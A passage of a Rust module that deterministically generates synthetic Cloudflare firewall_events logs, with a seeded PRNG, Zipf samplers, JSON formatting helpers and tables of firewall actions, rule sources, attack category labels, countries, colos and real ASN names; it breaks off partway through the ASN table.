//! Deterministic synthetic Cloudflare Logpush `firewall_events` generator.
//!
//! This module owns everything needed to fabricate a realistic, skewed
//! `firewall_events` NDJSON stream without any external data:
//!
//! * a seeded xoshiro256** PRNG (seeded through SplitMix64) and O(log n)
//!   cumulative-table samplers for Zipf and arbitrary integer weights;
//! * precomputed, already JSON-escaped string tables: rules (numeric CRS-like
//!   and 32-hex ids, each with a fixed source, preferred action, description,
//!   category, severity, `Ref` and `Metadata` shape), ~215 countries with edge
//!   colos, a few hundred ASNs, an IP pool (v4 and ~15% v6, Zipf-heavy), user
//!   agents built from templates, hosts and path/query templates;
//! * the diurnal time process: per-minute counts proportional to an integer
//!   day curve (with weekend dip and jitter), uniform ns offsets inside each
//!   minute, sorted, so `Datetime` is nondecreasing;
//! * the injected attack window (sqlmap-like burst from a few ASNs) with its
//!   ground truth (1-based line numbers), and rare malformed lines;
//! * the matching rule-map CSV (`rule_id,description,category,severity`).
//!
//! Everything that decides the bytes is integer arithmetic or basic IEEE
//! operations (`* / sqrt`), and no hash-map iteration order is ever observed,
//! so the same config gives byte-identical output on every machine.

use std::collections::HashSet;
use std::io::{self, Write};

/// How `Datetime` is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TimeFormat {
    /// Cloudflare's default: unix nanoseconds as a bare JSON integer.
    UnixNano,
    /// `"2024-06-09T12:34:56.123456789Z"`.
    Rfc3339,
    /// `"2024-06-09 12:34:56"` (the Panther sample form, second precision).
    DateTime,
}

/// Generator configuration. Out-of-range values are clamped in [`Synth::new`].
#[derive(Clone, Debug)]
pub struct SynthConfig {
    pub events: u64,
    pub seed: u64,
    pub days: u32,
    pub start_unix_s: i64,
    pub rules: u32,
    pub ips: u32,
    pub user_agents: u32,
    pub time_format: TimeFormat,
    pub attack: bool,
    /// Share of all events that are attack events (all inside the window).
    pub attack_fraction: f64,
    /// One malformed extra line every this many events; 0 = never.
    pub malformed_every: u64,
}

impl Default for SynthConfig {
    fn default() -> Self {
        SynthConfig {
            events: 1_000_000,
            seed: 42,
            days: 7,
            start_unix_s: 1_717_372_800, // 2024-06-03T00:00:00Z
            rules: 3000,
            ips: 300_000,
            user_agents: 3000,
            time_format: TimeFormat::UnixNano,
            attack: true,
            attack_fraction: 0.005,
            malformed_every: 111_111,
        }
    }
}

/// What [`Synth::write_events`] wrote.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SynthSummary {
    /// Well-formed event lines (== config `events`).
    pub events: u64,
    /// All lines, events plus malformed ones.
    pub lines: u64,
    /// Bytes written to the event writer.
    pub bytes: u64,
    /// 1-based line numbers of the malformed lines.
    pub malformed_lines: Vec<u64>,
    pub attack_events: u64,
    /// Attack window `[start, end)` in unix ns; both 0 when the attack is off.
    pub attack_start_ns: i64,
    pub attack_end_ns: i64,
}

// ---------------------------------------------------------------- PRNG ----

fn splitmix(x: &mut u64) -> u64 {
    *x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *x;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// xoshiro256** seeded via SplitMix64; one independent stream per purpose.
#[derive(Clone, Debug)]
struct Rng {
    s: [u64; 4],
}

const ST_RULES: u64 = 1;
const ST_GEO: u64 = 2;
const ST_IPS: u64 = 3;
const ST_UA: u64 = 4;
const ST_ATTACK: u64 = 5;
const ST_TIME: u64 = 6;
const ST_EVENTS: u64 = 7;
const ST_MAP: u64 = 8;

impl Rng {
    fn new(seed: u64, stream: u64) -> Rng {
        let mut x = seed ^ stream.wrapping_mul(0xD1B5_4A32_D192_ED03);
        let s = [
            splitmix(&mut x),
            splitmix(&mut x),
            splitmix(&mut x),
            splitmix(&mut x),
        ];
        Rng { s }
    }

    #[inline]
    fn next_u64(&mut self) -> u64 {
        let result = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }

    /// Uniform in `[0, n)` (multiply-high; `n == 0` gives 0).
    #[inline]
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    #[inline]
    fn idx(&mut self, n: usize) -> usize {
        self.below(n as u64) as usize
    }

    /// Uniform in `[lo, hi]`.
    #[inline]
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    #[inline]
    fn percent(&mut self, p: u64) -> bool {
        self.below(100) < p
    }

    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.idx(xs.len())]
    }
}

// ------------------------------------------------------------ sampling ----

/// Cumulative weight table sampled by binary search: O(log n) per draw.
#[derive(Clone, Debug)]
struct Cdf {
    cum: Vec<u64>,
}

impl Cdf {
    fn from_weights<I: IntoIterator<Item = u64>>(weights: I) -> Cdf {
        let mut acc = 0u64;
        let cum = weights
            .into_iter()
            .map(|w| {
                acc = acc.saturating_add(w);
                acc
            })
            .collect();
        Cdf { cum }
    }

    /// Zipf over `n` ranks with exponent `quarters / 4` (integer quarters keep
    /// the math to `sqrt` and `*`, which IEEE 754 rounds identically everywhere).
    fn zipf(n: usize, quarters: u32) -> Cdf {
        Cdf::from_weights((1..=n).map(|k| {
            let r = (k as f64).sqrt().sqrt();
            let p = (0..quarters).fold(1.0f64, |acc, _| acc * r);
            (((1u64 << 40) as f64 / p) as u64).max(1)
        }))
    }

    fn pairs<T: Copy>(pairs: &[(T, u32)]) -> (Vec<T>, Cdf) {
        let vals = pairs.iter().map(|p| p.0).collect();
        (
            vals,
            Cdf::from_weights(pairs.iter().map(|p| u64::from(p.1))),
        )
    }

    #[inline]
    fn sample(&self, rng: &mut Rng) -> usize {
        let total = match self.cum.last() {
            Some(&t) if t > 0 => t,
            _ => return 0,
        };
        let x = rng.below(total);
        self.cum.partition_point(|&c| c <= x)
    }
}

/// A choice among fixed values with integer weights.
#[derive(Clone, Debug)]
struct Weighted<T: Copy> {
    vals: Vec<T>,
    cdf: Cdf,
}

impl<T: Copy> Weighted<T> {
    fn new(pairs: &[(T, u32)]) -> Weighted<T> {
        let (vals, cdf) = Cdf::pairs(pairs);
        Weighted { vals, cdf }
    }

    #[inline]
    fn sample(&self, rng: &mut Rng) -> T {
        self.vals[self.cdf.sample(rng)]
    }
}

// ---------------------------------------------------------- formatting ----

const DIGITS2: [u8; 200] = {
    let mut t = [0u8; 200];
    let mut i = 0;
    while i < 100 {
        t[2 * i] = b'0' + (i / 10) as u8;
        t[2 * i + 1] = b'0' + (i % 10) as u8;
        i += 1;
    }
    t
};

#[inline]
fn push_u64(b: &mut Vec<u8>, mut v: u64) {
    let mut tmp = [0u8; 20];
    let mut i = 20;
    while v >= 100 {
        let d = (v % 100) as usize * 2;
        v /= 100;
        i -= 2;
        tmp[i] = DIGITS2[d];
        tmp[i + 1] = DIGITS2[d + 1];
    }
    if v >= 10 {
        let d = v as usize * 2;
        i -= 2;
        tmp[i] = DIGITS2[d];
        tmp[i + 1] = DIGITS2[d + 1];
    } else {
        i -= 1;
        tmp[i] = b'0' + v as u8;
    }
    b.extend_from_slice(&tmp[i..]);
}

#[inline]
fn push_i64(b: &mut Vec<u8>, v: i64) {
    if v < 0 {
        b.push(b'-');
    }
    push_u64(b, v.unsigned_abs());
}

/// Zero-padded to exactly `width` digits (`v` must fit).
#[inline]
fn push_padded(b: &mut Vec<u8>, mut v: u64, width: usize) {
    let start = b.len();
    b.resize(start + width, b'0');
    for slot in b[start..].iter_mut().rev() {
        *slot = b'0' + (v % 10) as u8;
        v /= 10;
    }
}

/// The low `nibbles` hex digits of `v`, lowercase.
#[inline]
fn push_hex(b: &mut Vec<u8>, v: u64, nibbles: u32) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    for i in (0..nibbles).rev() {
        b.push(HEX[((v >> (i * 4)) & 15) as usize]);
    }
}

/// Appends `s` JSON-escaped (no surrounding quotes).
fn escape_into(b: &mut Vec<u8>, s: &str) {
    for &c in s.as_bytes() {
        match c {
            b'"' => b.extend_from_slice(b"\\\""),
            b'\\' => b.extend_from_slice(b"\\\\"),
            b'\n' => b.extend_from_slice(b"\\n"),
            b'\r' => b.extend_from_slice(b"\\r"),
            b'\t' => b.extend_from_slice(b"\\t"),
            0x08 => b.extend_from_slice(b"\\b"),
            0x0c => b.extend_from_slice(b"\\f"),
            c if c < 0x20 => {
                b.extend_from_slice(b"\\u00");
                push_hex(b, u64::from(c), 2);
            }
            c => b.push(c),
        }
    }
}

fn esc(s: &str) -> Vec<u8> {
    let mut b = Vec::with_capacity(s.len() + 8);
    escape_into(&mut b, s);
    b
}

fn hex_string(rng: &mut Rng, nibbles: u32) -> String {
    let mut b = Vec::with_capacity(nibbles as usize);
    let mut left = nibbles;
    while left > 0 {
        let n = left.min(16);
        push_hex(&mut b, rng.next_u64(), n);
        left -= n;
    }
    String::from_utf8_lossy(&b).into_owned()
}

/// Days since 1970-01-01 to (year, month, day), proleptic Gregorian.
fn civil_from_days(z: i64) -> (i64, u64, u64) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097) as u64;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe as i64 + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

/// `YYYY-MM-DD?HH:MM:SS` for a unix second, with `sep` between date and time.
fn push_civil(b: &mut Vec<u8>, sec: i64, sep: u8) {
    let (y, m, d) = civil_from_days(sec.div_euclid(86_400));
    let rem = sec.rem_euclid(86_400) as u64;
    push_padded(b, y.clamp(0, 9999) as u64, 4);
    b.push(b'-');
    push_padded(b, m, 2);
    b.push(b'-');
    push_padded(b, d, 2);
    b.push(sep);
    push_padded(b, rem / 3600, 2);
    b.push(b':');
    push_padded(b, rem / 60 % 60, 2);
    b.push(b':');
    push_padded(b, rem % 60, 2);
}

fn rfc3339_ns(ns: i64) -> String {
    let mut b = Vec::new();
    push_civil(&mut b, ns.div_euclid(1_000_000_000), b'T');
    b.push(b'.');
    push_padded(&mut b, ns.rem_euclid(1_000_000_000) as u64, 9);
    b.push(b'Z');
    String::from_utf8_lossy(&b).into_owned()
}

// ------------------------------------------------------------- tables -----

const ACTIONS: [&str; 17] = [
    "block",
    "log",
    "challenge",
    "jschallenge",
    "managedchallenge",
    "allow",
    "skip",
    "bypass",
    "managedchallengenoninteractivesolved",
    "managedchallengeinteractivesolved",
    "challengesolved",
    "jschallengesolved",
    "challengefailed",
    "jschallengefailed",
    "managedchallengeskipped",
    "challengebypassed",
    "connectionclose",
];
const BLOCK: u8 = 0;
const LOG: u8 = 1;
const CHAL: u8 = 2;
const JSCH: u8 = 3;
const MCH: u8 = 4;
const ALLOW: u8 = 5;
const SKIP: u8 = 6;
const BYPASS: u8 = 7;
const MC_NI: u8 = 8;
const MC_I: u8 = 9;
const CH_OK: u8 = 10;
const JS_OK: u8 = 11;
const CH_FAIL: u8 = 12;
const JS_FAIL: u8 = 13;
const MC_SKIP: u8 = 14;
const CH_BYP: u8 = 15;
const CLOSE: u8 = 16;

const CATEGORIES: [&str; 16] = [
    "sqli",
    "xss",
    "rce",
    "lfi",
    "rfi",
    "ssrf",
    "auth",
    "scanner",
    "bot",
    "ddos",
    "protocol",
    "ratelimit",
    "anomaly",
    "access",
    "custom",
    "dlp",
];
const C_SQLI: u8 = 0;
const C_XSS: u8 = 1;
const C_RCE: u8 = 2;
const C_LFI: u8 = 3;
const C_RFI: u8 = 4;
const C_SSRF: u8 = 5;
const C_AUTH: u8 = 6;
const C_SCAN: u8 = 7;
const C_BOT: u8 = 8;
const C_DDOS: u8 = 9;
const C_PROTO: u8 = 10;
const C_RATE: u8 = 11;
const C_ANOM: u8 = 12;
const C_ACCESS: u8 = 13;
const C_CUSTOM: u8 = 14;
const C_DLP: u8 = 15;

const SEVERITIES: [&str; 5] = ["critical", "high", "medium", "low", "info"];

const IP_CLASSES: [&str; 8] = [
    "unknown",
    "badHost",
    "searchEngine",
    "allowlist",
    "monitoringService",
    "noRecord",
    "scan",
    "tor",
];

/// How a rule's `Metadata` object is finished per event.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum MetaStyle {
    Managed,
    Legacy,
    Custom,
    FwRule,
    Rate,
    Ddos,
    Bot,
    Level,
    Access,
    Dlp,
    Api,
    Empty,
}

/// One `Source` value with its rule share, id style and action mix.
struct SourceSpec {
    name: &'static str,
    rule_weight: u32,
    numeric: bool,
    prefs: &'static [(u8, u32)],
    alts: &'static [(u8, u32)],
    cats: &'static [u8],
    meta: MetaStyle,
}

const BLOCKISH: &[(u8, u32)] = &[(BLOCK, 70), (CHAL, 15), (JSCH, 10), (MCH, 5)];
const BLOCKISH_ALTS: &[(u8, u32)] = &[(CH_OK, 30), (MC_NI, 30), (BLOCK, 30), (CH_FAIL, 10)];
const BOT_ALTS: &[(u8, u32)] = &[
    (MC_NI, 35),
    (MC_I, 15),
    (JS_OK, 15),
    (JS_FAIL, 10),
    (BLOCK, 15),
    (LOG, 10),
];
const LOGGY: &[(u8, u32)] = &[(BLOCK, 50), (LOG, 50)];

const SOURCES: &[SourceSpec] = &[
    SourceSpec {
        name: "firewallmanaged",
        rule_weight: 380,
        numeric: false,
        prefs: &[(BLOCK, 60), (LOG, 25), (MCH, 10), (JSCH, 5)],
        alts: &[
            (LOG, 40),
            (BLOCK, 25),
            (MCH, 15),
            (MC_NI, 8),
            (MC_I, 4),
            (SKIP, 4),
            (MC_SKIP, 4),
        ],
        cats: &[
            C_SQLI, C_SQLI, C_XSS, C_XSS, C_RCE, C_LFI, C_RFI, C_SSRF, C_AUTH, C_SCAN, C_PROTO,
            C_ANOM,
        ],
        meta: MetaStyle::Managed,
    },
    SourceSpec {
        name: "waf",
        rule_weight: 200,
        numeric: true,
        prefs: &[(BLOCK, 55), (LOG, 30), (CHAL, 10), (JSCH, 5)],
        alts: &[(LOG, 50), (BLOCK, 30), (CHAL, 10), (CH_OK, 5), (CH_FAIL, 5)],
        cats: &[
            C_SQLI, C_SQLI, C_XSS, C_XSS, C_RCE, C_LFI, C_RFI, C_PROTO, C_SCAN, C_ANOM,
        ],
        meta: MetaStyle::Legacy,
    },
    SourceSpec {
        name: "firewallcustom",
        rule_weight: 120,
        numeric: false,
        prefs: &[
            (BLOCK, 40),
            (MCH, 25),
            (SKIP, 12),
            (LOG, 10),
            (JSCH, 5),
            (ALLOW, 4),
            (CHAL, 4),
        ],
        alts: &[
            (MC_NI, 25),
            (MC_I, 10),
            (BLOCK, 20),
            (LOG, 15),
            (SKIP, 10),
            (JS_OK, 5),
            (JS_FAIL, 5),
            (CH_BYP, 5),
            (MC_SKIP, 5),
        ],
        cats: &[C_CUSTOM],
        meta: MetaStyle::Custom,
    },
    SourceSpec {
        name: "firewallrules",
        rule_weight: 60,
        numeric: false,
        prefs: &[
            (BLOCK, 45),
            (CHAL, 20),
            (JSCH, 15),
            (ALLOW, 10),
            (LOG, 5),
            (BYPASS, 5),
        ],
        alts: &[
            (CH_OK, 30),
            (JS_OK, 20),
            (CH_FAIL, 10),
            (JS_FAIL, 10),
            (LOG, 15),
            (BLOCK, 15),
        ],
        cats: &[C_CUSTOM],
        meta: MetaStyle::FwRule,
    },
    SourceSpec {
        name: "ratelimit",
        rule_weight: 50,
        numeric: false,
        prefs: &[(BLOCK, 60), (MCH, 20), (LOG, 15), (CHAL, 5)],
        alts: &[(LOG, 50), (MC_NI, 25), (BLOCK, 25)],
        cats: &[C_RATE],
        meta: MetaStyle::Rate,
    },
    SourceSpec {
        name: "l7ddos",
        rule_weight: 40,
        numeric: false,
        prefs: &[(BLOCK, 70), (MCH, 15), (LOG, 10), (CLOSE, 5)],
        alts: &[(LOG, 50), (MC_NI, 20), (BLOCK, 20), (CLOSE, 10)],
        cats: &[C_DDOS],
        meta: MetaStyle::Ddos,
    },
    SourceSpec {
        name: "botmanagement",
        rule_weight: 30,
        numeric: false,
        prefs: &[(MCH, 45), (BLOCK, 30), (JSCH, 15), (LOG, 10)],
        alts: BOT_ALTS,
        cats: &[C_BOT],
        meta: MetaStyle::Bot,
    },
    SourceSpec {
        name: "botfight",
        rule_weight: 20,
        numeric: false,
        prefs: &[(MCH, 60), (BLOCK, 20), (JSCH, 20)],
        alts: BOT_ALTS,
        cats: &[C_BOT],
        meta: MetaStyle::Bot,
    },
    SourceSpec {
        name: "securitylevel",
        rule_weight: 10,
        numeric: false,
        prefs: &[(MCH, 50), (CHAL, 30), (JSCH, 20)],
        alts: &[(MC_NI, 40), (CH_OK, 30), (JS_OK, 30)],
        cats: &[C_ANOM],
        meta: MetaStyle::Level,
    },
    SourceSpec {
        name: "ip",
        rule_weight: 20,
        numeric: false,
        prefs: &[(BLOCK, 60), (CHAL, 15), (JSCH, 10), (MCH, 10), (ALLOW, 5)],
        alts: BLOCKISH_ALTS,
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "iprange",
        rule_weight: 10,
        numeric: false,
        prefs: BLOCKISH,
        alts: BLOCKISH_ALTS,
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "country",
        rule_weight: 10,
        numeric: false,
        prefs: BLOCKISH,
        alts: BLOCKISH_ALTS,
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "asn",
        rule_weight: 10,
        numeric: false,
        prefs: BLOCKISH,
        alts: BLOCKISH_ALTS,
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "uablock",
        rule_weight: 8,
        numeric: false,
        prefs: &[(BLOCK, 70), (CHAL, 20), (JSCH, 10)],
        alts: BLOCKISH_ALTS,
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "zonelockdown",
        rule_weight: 6,
        numeric: false,
        prefs: &[(BLOCK, 100)],
        alts: &[(BLOCK, 100)],
        cats: &[C_ACCESS],
        meta: MetaStyle::Access,
    },
    SourceSpec {
        name: "bic",
        rule_weight: 6,
        numeric: false,
        prefs: &[(BLOCK, 80), (LOG, 20)],
        alts: LOGGY,
        cats: &[C_BOT],
        meta: MetaStyle::Empty,
    },
    SourceSpec {
        name: "hot",
        rule_weight: 4,
        numeric: true,
        prefs: &[(BLOCK, 100)],
        alts: LOGGY,
        cats: &[C_PROTO],
        meta: MetaStyle::Empty,
    },
    SourceSpec {
        name: "validation",
        rule_weight: 4,
        numeric: false,
        prefs: &[(BLOCK, 100)],
        alts: &[(BLOCK, 100)],
        cats: &[C_PROTO],
        meta: MetaStyle::Empty,
    },
    SourceSpec {
        name: "apishield",
        rule_weight: 5,
        numeric: false,
        prefs: LOGGY,
        alts: LOGGY,
        cats: &[C_PROTO],
        meta: MetaStyle::Api,
    },
    SourceSpec {
        name: "apishieldschemavalidation",
        rule_weight: 4,
        numeric: false,
        prefs: LOGGY,
        alts: LOGGY,
        cats: &[C_PROTO],
        meta: MetaStyle::Api,
    },
    SourceSpec {
        name: "dlp",
        rule_weight: 3,
        numeric: false,
        prefs: &[(LOG, 90), (BLOCK, 10)],
        alts: LOGGY,
        cats: &[C_DLP],
        meta: MetaStyle::Dlp,
    },
];
const SRC_MANAGED: usize = 0;
const SRC_WAF: usize = 1;

/// Country codes, roughly by traffic rank (Cloudflare uses `t1` for Tor and
/// `xx` for unknown).
const COUNTRIES: &[&str] = &[
    "us", "cn", "de", "gb", "in", "fr", "br", "ru", "jp", "nl", "sg", "ca", "kr", "au", "vn", "id",
    "it", "es", "hk", "tw", "pl", "ua", "tr", "se", "ir", "th", "mx", "ar", "za", "ch", "be", "at",
    "my", "ph", "eg", "cz", "ro", "t1", "il", "pk", "bd", "ng", "co", "cl", "pe", "fi", "dk", "no",
    "ie", "pt", "hu", "gr", "sa", "ae", "kz", "by", "nz", "ve", "ma", "dz", "ke", "lt", "lv", "ee",
    "bg", "rs", "hr", "si", "sk", "lu", "md", "ge", "am", "az", "uz", "kg", "tj", "tm", "mn", "np",
    "lk", "mm", "kh", "la", "bn", "mo", "mv", "af", "iq", "sy", "jo", "lb", "kw", "qa", "bh", "om",
    "ye", "ps", "cy", "mt", "is", "al", "mk", "ba", "me", "xk", "li", "mc", "sm", "ad", "fo", "gl",
    "gi", "im", "je", "gg", "ax", "tn", "ly", "sd", "et", "ug", "tz", "rw", "bi", "so", "dj", "er",
    "ss", "cd", "cg", "ga", "cm", "cf", "td", "ne", "ml", "bf", "sn", "gm", "gn", "gw", "sl", "lr",
    "ci", "gh", "tg", "bj", "mr", "cv", "st", "gq", "ao", "zm", "zw", "mw", "mz", "mg", "mu", "sc",
    "km", "re", "yt", "na", "bw", "ls", "sz", "bo", "py", "uy", "ec", "gy", "sr", "gf", "cr", "pa",
    "ni", "hn", "sv", "gt", "bz", "cu", "jm", "ht", "do", "pr", "tt", "bb", "bs", "ag", "dm", "lc",
    "vc", "gd", "kn", "aw", "cw", "sx", "bq", "vg", "vi", "ky", "bm", "tc", "ms", "ai", "pf", "nc",
    "fj", "pg", "sb", "vu", "ws", "to", "ki", "tv", "nr", "fm", "mh", "pw", "gu", "mp", "as", "ck",
    "nu", "xx",
];

const FALLBACK_COLOS: &[&str] = &[
    "FRA", "AMS", "LHR", "IAD", "SIN", "HKG", "GRU", "JNB", "DXB", "MIA", "NBO", "KUL", "CDG",
    "LAX",
];

fn colos_for(cc: &str) -> &'static [&'static str] {
    match cc {
        "us" => &[
            "IAD", "EWR", "ORD", "DFW", "LAX", "SJC", "SEA", "ATL", "MIA", "DEN",
        ],
        "cn" => &["SHA", "PEK", "CAN", "CTU", "HGH"],
        "de" => &["FRA", "DUS", "HAM", "MUC", "TXL"],
        "gb" => &["LHR", "MAN", "EDI"],
        "in" => &["BOM", "DEL", "MAA", "BLR", "HYD", "CCU"],
        "fr" => &["CDG", "MRS"],
        "br" => &["GRU", "GIG", "POA", "FOR"],
        "ru" => &["DME", "LED"],
        "jp" => &["NRT", "KIX", "FUK"],
        "nl" => &["AMS"],
        "sg" => &["SIN"],
        "ca" => &["YYZ", "YVR", "YUL"],
        "kr" => &["ICN"],
        "au" => &["SYD", "MEL", "BNE", "PER"],
        "vn" => &["SGN", "HAN"],
        "id" => &["CGK", "SUB"],
        "it" => &["MXP", "FCO"],
        "es" => &["MAD", "BCN"],
        "hk" => &["HKG"],
        "tw" => &["TPE", "KHH"],
        "pl" => &["WAW"],
        "ua" => &["KBP"],
        "tr" => &["IST"],
        "se" => &["ARN"],
        "ir" => &["IST", "FRA"],
        "th" => &["BKK"],
        "mx" => &["MEX", "QRO", "GDL"],
        "ar" => &["EZE"],
        "za" => &["JNB", "CPT"],
        "ch" => &["ZRH", "GVA"],
        "be" => &["BRU"],
        "at" => &["VIE"],
        "my" => &["KUL"],
        "ph" => &["MNL"],
        "eg" => &["CAI"],
        "cz" => &["PRG"],
        "ro" => &["OTP"],
        "il" => &["TLV"],
        "pk" => &["KHI", "LHE", "ISB"],
        "bd" => &["DAC"],
        "ng" => &["LOS"],
        "co" => &["BOG"],
        "cl" => &["SCL"],
        "pe" => &["LIM"],
        "fi" => &["HEL"],
        "dk" => &["CPH"],
        "no" => &["OSL"],
        "ie" => &["DUB"],
        "pt" => &["LIS"],
        "hu" => &["BUD"],
        "gr" => &["ATH"],
        "sa" => &["RUH", "JED"],
        "ae" => &["DXB"],
        "kz" => &["ALA"],
        "nz" => &["AKL"],
        "ke" => &["NBO"],
        "t1" => &["FRA", "AMS", "IAD"],
        _ => &[],
    }
}

/// Real ASNs: (number, description, country, hosting/datacenter).
const REAL_ASNS: &[(u32, &str, &str, bool)] = &[
    (13335, "CLOUDFLARENET", "us", true),
    (15169, "GOOGLE", "us", true),
    (16509, "AMAZON-02", "us", true),
    (14618, "AMAZON-AES", "us", true),
    (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "us", true),
    (396982, "GOOGLE-CLOUD-PLATFORM", "us", true),
    (14061, "DIGITALOCEAN-ASN", "us", true),
    (20473, "AS-CHOOPA", "us", true),
    (63949, "AKAMAI-LINODE-AP Akamai Connected Cloud", "us", true),
    (31898, "ORACLE-BMC-31898", "us", true),
    (7922, "COMCAST-7922", "us", false),
    (7018, "ATT-INTERNET4", "us", false),
    (701, "UUNET", "us", false),
    (20115, "CHARTER-20115", "us", false),
    (22773, "ASN-CXA-ALL-CCI-22773-RDC", "us", false),
    (21928, "T-MOBILE-AS21928", "us", false),
    (22394, "CELLCO", "us", false),
    (6939, "HURRICANE", "us", true),
    (174, "COGENT-174", "us", true),
    (3356, "LEVEL3", "us", true),
    (36352, "AS-COLOCROSSING", "us", true),
    (53667, "PONYNET", "us", true),
    (398324, "CENSYS-ARIN-01", "us", true),
    (2914, "NTT-LTD-2914", "us", true),
    (4134, "CHINANET-BACKBONE No.31,Jin-rong Street", "cn", false),
    (
        4837,
        "CHINA169-BACKBONE CHINA UNICOM China169 Backbone",
        "cn",
        false,
    ),
    (
        9808,
        "CHINAMOBILE-CN China Mobile Communications Group Co., Ltd.",
        "cn",
        false,
    ),
    (
        45090,
        "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited",
        "cn",
        true,
    ),
    (
        37963,
        "ALIBABA-CN-NET Hangzhou Alibaba Advertising Co.,Ltd.",
        "cn",
        true,
    ),
    (
        4808,
        "CHINA169-BJ China Unicom Beijing Province Network",
        "cn",
        false,
    ),
    (
        3320,
        "DTAG Internet service provider operations",
        "de",
        false,
    ),
    (24940, "HETZNER-AS", "de", true),
    (51167, "CONTABO", "de", true),
    (
        3209,
        "VODANET International IP-Backbone of Vodafone",
        "de",
        false,
    ),
    (6805, "TDDE-ASN1", "de", false),
    (8881, "VERSATEL", "de", false),
    (8560, "IONOS-AS", "de", true),
    (2856, "BT-UK-AS BTnet UK Regional network", "gb", false),
    (5089, "NTL", "gb", false),
    (5607, "BSKYB-BROADBAND-AS", "gb", false),
    (9009, "M247", "gb", true),
    (60068, "CDN77 ^_^", "gb", true),
    (212238, "CDNEXT", "gb", true),
    (9002, "RETN-AS", "gb", true),
    (62240, "CLOUVIDER Clouvider - Global ASN", "gb", true),
    (211298, "INTERNET-MEASUREMENT", "gb", true),
    (
        55836,
        "RELIANCEJIO-IN Reliance Jio Infocomm Limited",
        "in",
        false,
    ),
    (
        24560,
        "AIRTELBROADBAND-AS-AP Bharti Airtel Ltd., Telemedia Services",
        "in",
        false,
    ),
    (
        45609,
        "BHARTI-MOBILITY-AS-AP Bharti Airtel Ltd. AS for GPRS Service",
        "in",
        false,
    ),
    (9829, "BSNL-NIB National Internet Backbone", "in", false),
    (55410, "VIL-AS-AP Vodafone Idea Ltd", "in", false),
    (3215, "Orange", "fr", false),
    (12322, "PROXAD Free SAS", "fr", false),
    (15557, "LDCOMNET", "fr", false),
    (5410, "BOUYGTEL-ISP", "fr", false),
    (16276, "OVH", "fr", true),
    (12876, "Online SAS", "fr", true),
    (28573, "Claro NXT Telecomunicacoes Ltda", "br", false),
    (26599, "TELEFÔNICA BRASIL S.A", "br", false),
    (8167, "V tal", "br", false),
    (12389, "ROSTELECOM-AS", "ru", false),
    (8359, "MTS PJSC", "ru", false),
    (25513, "ASN-MGTS-USPD", "ru", false),
    (49505, "SELECTEL", "ru", true),
    (210644, "AEZA-AS", "ru", true),
    (31133, "MF-MGSM-AS", "ru", false),
    (2516, "KDDI KDDI CORPORATION", "jp", false),
    (4713, "OCN NTT Communications Corporation", "jp", false),
    (17676, "GIGAINFRA SoftBank Corp.", "jp", false),
    (1136, "KPN KPN National", "nl", false),
    (33915, "TNF-AS", "nl", false),
    (60781, "LEASEWEB-NL-AMS-01 Netherlands", "nl", true),
    (49981, "WORLDSTREAM", "nl", true),
    (3758, "SINGNET SingNet", "sg", false),
    (4773, "MOBILEONELTD-AS-AP MobileOne Ltd.", "sg", false),
    (812, "ROGERS-COMMUNICATIONS", "ca", false),
    (577, "BACOM", "ca", false),
    (852, "ASN852", "ca", false),
    (4766, "KIXS-AS-KR Korea Telecom", "kr", false),
    (9318, "SKB-AS SK Broadband Co Ltd", "kr", false),
    (1221, "ASN-TELSTRA Telstra Pty Ltd", "au", false),
    (4804, "MPX-AS Microplex PTY LTD", "au", false),
    (7545, "TPG-INTERNET-AP TPG Telecom Limited", "au", false),
    (7552, "VIETEL-AS-AP Viettel Group", "vn", false),
    (45899, "VNPT-AS-VN VNPT Corp", "vn", false),
    (18403, "FPT-AS-AP FPT Telecom Company", "vn", false),
    (
        7713,
        "TELKOMNET-AS-AP PT Telekomunikasi Indonesia",
        "id",
        false,
    ),
    (
        17974,
        "TELKOMNET-AS2-AP PT Telekomunikasi Indonesia",
        "id",
        false,
    ),
    (3269, "ASN-IBSNAZ", "it", false),
    (30722, "VODAFONE-IT-ASN", "it", false),
    (3352, "TELEFONICA_DE_ESPANA", "es", false),
    (12479, "UNI2-AS", "es", false),
    (4760, "HKTIMS-AP HKT Limited", "hk", false),
    (
        9269,
        "HKBN-AS-AP Hong Kong Broadband Network Ltd.",
        "hk",
        false,
    ),
    (3462, "HINET Data Communication Business Group", "tw", false),
    (5617, "TPNET", "pl", false),
    (15895, "KSNET-AS", "ua", false),
    (6849, "UKRTELNET", "ua", false),
    (9121, "TTNET", "tr", false),
